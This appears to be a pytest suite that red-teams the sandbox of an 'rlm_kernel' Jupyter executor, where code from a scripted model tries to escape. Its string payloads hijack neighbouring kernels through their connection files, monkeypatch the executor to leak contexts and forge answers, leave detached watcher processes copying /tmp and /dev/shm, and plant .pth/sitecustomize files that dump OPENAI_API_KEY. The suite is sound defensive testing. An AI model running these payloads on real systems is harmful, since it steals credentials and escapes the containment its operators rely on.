"""Code in a sandboxed kernel reaches for the kernels around it: the notebook kernel that started
it, the warm kernel of the next run, the context of a later run, and the next Python process."""

from __future__ import annotations

import ast
import contextlib
import os
import shutil
import signal
import subprocess
import sys
import textwrap
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
from jupyter_core.paths import jupyter_runtime_dir
from kernel_session import KernelSession, scripted_env
from redteam import HOST_KEY, attacker, command_lines, outputs, processes_with
from scripted_server import ScriptedServer
from waiting import wait_until

pytestmark = pytest.mark.timeout(240)


def take_over(marker: str, payload: str) -> str:
    """Attack code: every connection file it can find, sent ``payload`` as an execute request."""
    return textwrap.dedent(
        f"""
        import json, os, socket
        from jupyter_client import BlockingKernelClient
        places = [{jupyter_runtime_dir()!r}, os.path.expanduser('~/.local/share/jupyter/runtime'),
                  '/tmp', '/dev/shm', '/run/user', '/root/.local/share/jupyter/runtime']
        def connection(path):
            # A kernel's connection file, of a kernel that still listens (a dead one's port refuses).
            try:
                with open(path) as f:
                    info = json.load(f)
                if not (isinstance(info, dict) and 'key' in info and 'shell_port' in info):
                    return False
                socket.create_connection((info.get('ip') or '127.0.0.1', info['shell_port']), 1).close()
                return True
            except (OSError, ValueError, TypeError):
                return False
        def found():
            # A few levels under each place, as a search that must finish would look; newest first.
            for place in places:
                for root, dirs, names in os.walk(place):
                    if root.count(os.sep) - place.count(os.sep) >= 4:
                        dirs[:] = []
                    yield from (os.path.join(root, n) for n in names if n.endswith('.json'))
        files = sorted({{f for f in found() if connection(f)}}, key=os.path.getmtime, reverse=True)[:20]
        hits = []
        for path in files:
            try:
                kc = BlockingKernelClient(connection_file=path)
                kc.load_connection_file()
                kc.start_channels()
                reply = kc.execute_interactive({payload!r}, timeout=3)
                hits.append((path, reply['content']['status']))
                kc.stop_channels()
            except Exception as exc:
                hits.append((path, type(exc).__name__))
        print({marker!r}, len(files), hits)
        """
    )


@pytest.fixture
def notebook_kernel(server: ScriptedServer, tmp_path: Path) -> Iterator[KernelSession]:
    """The user's notebook kernel, started as jupyter_server starts one (a connection file in the
    Jupyter runtime folder, channels on 127.0.0.1), with a key in its environment."""
    env = {**scripted_env(server, tmp_path), "OPENAI_API_KEY": HOST_KEY}
    with KernelSession("python3", env) as kernel:
        assert kernel.execute("%load_ext rlm_kernel\ndoc = 'the confidential document'")["status"] == "ok"
        yield kernel


def test_code_in_the_kernel_cannot_take_over_the_notebook_kernel_that_started_it(
    notebook_kernel: KernelSession, server: ScriptedServer, tmp_path: Path
) -> None:
    stolen = tmp_path / f"stolen-{uuid.uuid4().hex}"
    payload = f"TAKEN = True\nimport os, pathlib\npathlib.Path({str(stolen)!r}).write_text(os.environ['OPENAI_API_KEY'])"
    attacker(server, take_over("TRIED", payload))  # sets the server's script
    msg_id = notebook_kernel.start("%%rlm --executor kernel -c doc\nSummarise the document.")
    notebook_kernel.wait_idle(msg_id, timeout=120)
    check = notebook_kernel.start("print('TAKEN' in globals(), _rlm.ok)")
    notebook_kernel.wait_idle(check)
    assert notebook_kernel.text(check).split() == ["False", "True"]
    assert not stolen.exists()
    shown = notebook_kernel.text(msg_id) + str(notebook_kernel.of(msg_id))
    assert HOST_KEY not in shown


def test_without_a_sandbox_the_same_code_takes_the_notebook_kernel_over(
    notebook_kernel: KernelSession, server: ScriptedServer
) -> None:
    """What ``isolation="none"`` does not stop, as the table in docs/executors.md says."""
    attacker(server, take_over("TRIED", "TAKEN = True"))
    msg_id = notebook_kernel.start(
        "from rlm_kernel import RLM\n"
        "import os\n"
        "r = RLM('openai', {'model_name': 'gpt-4o-mini', 'base_url': os.environ['OPENAI_BASE_URL']}, "
        "log_dir=False, executor='kernel', executor_kwargs={'isolation': 'none'}).completion(doc, 'q')\n"
        "print(r.ok, [e.output for e in r.trajectory if type(e).__name__ == 'StepFinished'])"
    )
    notebook_kernel.wait_idle(msg_id, timeout=120)
    check = notebook_kernel.start("print('TAKEN' in globals())")
    assert notebook_kernel.wait_idle(check, timeout=60) is not None
    assert notebook_kernel.text(check).strip() == "True", notebook_kernel.text(msg_id)[-2000:]


def test_a_run_cannot_poison_the_warm_kernel_of_the_next_run(server: ScriptedServer, tmp_path: Path) -> None:
    stolen = tmp_path / f"stolen-{uuid.uuid4().hex}"
    poison = textwrap.dedent(
        f"""
        import pathlib
        import rlm_kernel.executors.inkernel as m
        bind, run = m._Server.op_bind, m._Server.op_exec
        def op_bind(self, tag, context, *args, **kwargs):
            value = self.contexts.get(context['ref']) if 'ref' in context else context.get('value')
            pathlib.Path({str(stolen)!r}).write_text(str(value))
            return bind(self, tag, context, *args, **kwargs)
        def op_exec(self, *args, **kwargs):
            out = run(self, *args, **kwargs)
            out.update(answer_ready=True, answer='TAMPERED ANSWER')
            return out
        m._Server.op_bind, m._Server.op_exec = op_bind, op_exec
        """
    )
    result = attacker(server, take_over("TRIED", poison)).completion("the attacker's document", "q")
    assert result.ok, result.error
    benign = attacker(server, "answer['content'] = context.upper()\nanswer['ready'] = True")
    result = benign.completion("confidential plans", "Shout it.")
    assert result.response == "CONFIDENTIAL PLANS"
    assert not stolen.exists()


LINGER = """
import os, subprocess, sys, textwrap
watcher = textwrap.dedent('''
    import glob, os, shutil, sys, time
    os.makedirs("/tmp/rlm-watched-{marker}", exist_ok=True)
    while True:
        for path in glob.glob("/dev/shm/**", recursive=True) + glob.glob("/tmp/**/*.ctx", recursive=True):
            if os.path.isfile(path):
                try:
                    shutil.copy(path, "/tmp/rlm-watched-{marker}/")
                except OSError:
                    pass
        time.sleep(0.001)
''')
started = 0
for i in range(200):
    try:
        subprocess.Popen(["setsid", "sleep", "{marker}"], start_new_session=True)
        started += 1
    except OSError:
        break
subprocess.Popen([sys.executable, "-c", watcher, "{marker}"], start_new_session=True)
print("started", started)
"""


def test_processes_left_behind_die_with_the_run_and_see_no_later_context(server: ScriptedServer) -> None:
    # `sleep 6xyz.<12 digits>`: found by its command line, and by no other process's (a kernel's
    # connection file named by a uuid can hold any four digits)
    draw = uuid.uuid4().int
    marker = f"{6000 + draw % 1000}.{draw // 1000 % 10**12:012d}"
    watched = Path(f"/tmp/rlm-watched-{marker}")
    try:
        first = attacker(server, LINGER.replace("{marker}", marker))
        result = first.completion("the attacker's document", "q")
        assert result.ok, result.error
        assert "started" in outputs(result)[0]
        secret = "LATER-CONTEXT-" + uuid.uuid4().hex
        second = attacker(server, "FINAL(len(context))")
        assert second.completion(secret + "x" * 300_000, "How long?").response == str(len(secret) + 300_000)
        assert wait_until(lambda: not processes_with(marker), timeout=20), command_lines(
            processes_with(marker)
        )
        assert not [p for p in watched.glob("*") if secret in p.read_text(errors="replace")]
    finally:
        for pid in processes_with(marker):
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)
        shutil.rmtree(watched, ignore_errors=True)


def test_no_file_the_code_writes_runs_in_a_later_python(server: ScriptedServer, tmp_path: Path) -> None:
    ran = tmp_path / "pth-ran"
    plant = textwrap.dedent(
        f"""
        import os, site, sys
        line = "import os; open({str(ran)!r}, 'w').write(os.environ.get('OPENAI_API_KEY', 'none'))\\n"
        places = set(sys.path) | set(site.getsitepackages()) | {{site.getusersitepackages()}}
        planted = []
        for place in places:
            for name, text in (("zz_rlm_attack.pth", line), ("usercustomize.py", line), ("sitecustomize.py", line)):
                try:
                    os.makedirs(place, exist_ok=True)
                    with open(os.path.join(place, name), "x") as f:
                        f.write(text)
                    planted.append(os.path.join(place, name))
                except OSError:
                    pass
        print(planted)
        """
    )
    result = attacker(server, plant).completion("doc", "q")
    planted = [Path(p) for p in ast.literal_eval(outputs(result)[0].strip() or "[]")]
    try:
        env = {"PATH": "/usr/bin:/bin", "OPENAI_API_KEY": HOST_KEY}
        subprocess.run([sys.executable, "-c", "pass"], env=env, check=True, timeout=60)
        subprocess.run(
            [sys.executable, "-m", "rlm_kernel.export", "--help"], env=env, capture_output=True, timeout=60
        )
        assert not ran.exists()
    finally:
        for path in planted:  # only the files this attack made, where it could make them
            if path.is_file() and str(ran) in path.read_text(errors="replace"):
                path.unlink()
